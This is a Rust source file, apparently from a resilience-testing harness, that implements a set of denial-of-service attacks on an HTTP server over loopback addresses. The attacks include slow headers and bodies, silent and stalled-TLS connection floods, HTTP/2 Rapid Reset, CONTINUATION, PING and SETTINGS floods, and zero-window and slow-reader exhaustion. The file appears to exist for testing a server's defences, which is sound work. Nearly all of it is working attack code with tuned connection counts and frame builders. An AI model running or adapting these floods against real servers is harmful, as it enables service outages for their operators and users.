//! What attackers do. Each is some connections that behave alike, and are made anew some time after they were closed.

use std::future::pending;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::Result;
use clap::ValueEnum;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};

use crate::http2::{self, END_HEADERS, END_STREAM, Kind, frame};
use crate::setting::Target;

/// In this time all connections are made for the first time.
const BEGIN: Duration = Duration::from_secs(2);
/// From the end of a connection to the next one.
const AGAIN: Duration = Duration::from_secs(2);
/// Between two bytes of what trickles.
const TRICKLE: Duration = Duration::from_secs(1);

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// No attack: what the client sees else.
    None,
    /// Heads that do not end, from one address.
    SlowHeads,
    /// Connections that send nothing, from one address.
    Silent,
    /// Connections that send nothing, from many addresses.
    SilentAddresses,
    /// Connections that send what could become HTTP/2.
    OneByte,
    /// Bodies that do not end, to the webhook that the client sends to.
    SlowBodies,
    /// Streams of HTTP/2 that are reset at once.
    RapidReset,
    /// Heads of HTTP/2 that do not end.
    Continuation,
    /// PINGs.
    Pings,
    /// SETTINGS.
    Settings,
    /// Triggers whose responses HTTP/2's windows do not let through.
    ZeroWindows,
    /// Pipelined triggers whose responses are not read.
    SlowReaders,
    /// TLS handshakes that do not end, from one address; the client uses TLS.
    StalledTls,
    /// The same, from many addresses.
    StalledTlsAddresses,
}

impl Attack {
    /// Whether the operator serves TLS.
    pub fn is_tls(self) -> bool {
        matches!(self, Self::StalledTls | Self::StalledTlsAddresses)
    }

    /// All of them.
    pub const ALL: &[Self] = &[
        Self::None,
        Self::SlowHeads,
        Self::Silent,
        Self::SilentAddresses,
        Self::OneByte,
        Self::SlowBodies,
        Self::RapidReset,
        Self::Continuation,
        Self::Pings,
        Self::Settings,
        Self::ZeroWindows,
        Self::SlowReaders,
        Self::StalledTls,
        Self::StalledTlsAddresses,
    ];

    /// How many connections, and from how many addresses.
    fn size(self) -> (usize, usize) {
        match self {
            Self::None => (0, 1),
            Self::SlowHeads => (20_000, 1),
            Self::Silent | Self::StalledTls => (9_000, 1),
            Self::SilentAddresses | Self::StalledTlsAddresses => (10_000, 100),
            Self::OneByte => (1_500, 2),
            Self::SlowBodies => (2_000, 1),
            Self::RapidReset | Self::Continuation | Self::Pings | Self::Settings => (20, 1),
            Self::ZeroWindows | Self::SlowReaders => (100, 1),
        }
    }

    /// What one connection does until it is closed.
    async fn act(self, stream: TcpStream, target: &Target) -> Result<()> {
        let (read, mut write) = stream.into_split();
        let Target { address, path, .. } = target;
        let head = format!("POST {path} HTTP/1.1\r\nHost: {address}\r\n");
        match self {
            Self::None | Self::Silent | Self::SilentAddresses => until_closed(read).await,
            Self::StalledTls | Self::StalledTlsAddresses => {
                // A record of a handshake of 512 bytes, of which the first come.
                write.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]).await?;
                until_closed(read).await
            }
            Self::OneByte => {
                write.write_all(b"P").await?;
                until_closed(read).await
            }
            Self::SlowHeads => trickle(read, write, &format!("{head}X-Slow: ")).await,
            Self::SlowBodies => {
                trickle(read, write, &format!("{head}Content-Length: 1000\r\n\r\n")).await
            }
            Self::SlowReaders => {
                let head = format!("{head}Content-Type: application/json\r\n");
                let requests = format!("{head}Content-Length: 2\r\n\r\n{{}}").repeat(100);
                // It is never read, so that it is not seen to be closed before something is written.
                flood(&mut write, requests.as_bytes()).await
            }
            Self::ZeroWindows => {
                // SETTINGS_INITIAL_WINDOW_SIZE is 0.
                write.write_all(&http2::hello(&[0, 4, 0, 0, 0, 0])).await?;
                let block = http2::trigger(target);
                for stream in (1..200).step_by(2) {
                    let head = frame(Kind::Headers, END_HEADERS, stream, &block);
                    let body = frame(Kind::Data, END_STREAM, stream, b"{}");
                    write.write_all(&[head, body].concat()).await?;
                }
                until_closed(read).await
            }
            _ => {
                write.write_all(&http2::hello(&[])).await?;
                // The end that comes first.
                tokio::select! {
                    ended = until_closed(read) => ended,
                    ended = self.flood(&mut write, target) => ended,
                }
            }
        }
    }

    /// Frames without an end.
    async fn flood(self, write: &mut OwnedWriteHalf, target: &Target) -> Result<()> {
        match self {
            Self::Pings => flood(write, &frame(Kind::Ping, 0, 0, &[7; 8]).repeat(500)).await,
            Self::Settings => flood(write, &frame(Kind::Settings, 0, 0, &[]).repeat(500)).await,
            Self::Continuation => {
                write.write_all(&frame(Kind::Headers, 0, 1, &http2::trigger(target))).await?;
                flood(write, &frame(Kind::Continuation, 0, 1, &[]).repeat(500)).await
            }
            _ => {
                let block = http2::trigger(target);
                for stream in (1..0x7fff_ffff).step_by(2) {
                    let open = frame(Kind::Headers, END_HEADERS, stream, &block);
                    // CANCEL
                    let reset = frame(Kind::Reset, 0, stream, &8_u32.to_be_bytes());
                    write.write_all(&[open, reset].concat()).await?;
                }
                Ok(())
            }
        }
    }
}

/// Attacks for so long. `open` is the number of connections that are open.
pub async fn run(attack: Attack, target: Target, open: Arc<AtomicUsize>, time: Duration) {
    let (connections, addresses) = attack.size();
    for number in 0..connections {
        let [high, low] = ((number % addresses) as u16).to_be_bytes();
        let source = Ipv4Addr::new(127, 1, high, low + 1);
        let (target, open) = (target.clone(), open.clone());
        let begin = BEGIN.mul_f64(number as f64 / connections as f64);
        tokio::spawn(async move {
            sleep(begin).await;
            loop {
                // Refused, or cut: that is how it should be.
                let _ = once(attack, source, &target, &open).await;
                sleep(AGAIN).await;
            }
        });
    }
    let _ = timeout(time, pending::<()>()).await;
}

async fn once(attack: Attack, source: Ipv4Addr, target: &Target, open: &AtomicUsize) -> Result<()> {
    let socket = TcpSocket::new_v4()?;
    if attack == Attack::SlowReaders {
        socket.set_recv_buffer_size(4096)?;
    }
    socket.bind(SocketAddr::from((source, 0)))?;
    let stream = socket.connect(target.address).await?;
    open.fetch_add(1, Ordering::Relaxed);
    let acted = attack.act(stream, target).await;
    open.fetch_sub(1, Ordering::Relaxed);
    acted
}

async fn until_closed(mut read: OwnedReadHalf) -> Result<()> {
    let mut space = [0; 512];
    while read.read(&mut space).await? > 0 {}
    Ok(())
}

async fn flood(write: &mut OwnedWriteHalf, bytes: &[u8]) -> Result<()> {
    loop {
        write.write_all(bytes).await?;
    }
}

async fn trickle(read: OwnedReadHalf, mut write: OwnedWriteHalf, begin: &str) -> Result<()> {
    write.write_all(begin.as_bytes()).await?;
    let trickle = async {
        loop {
            sleep(TRICKLE).await;
            write.write_all(b"x").await?;
        }
    };
    tokio::select! {
        ended = until_closed(read) => ended,
        ended = trickle => ended,
    }
}
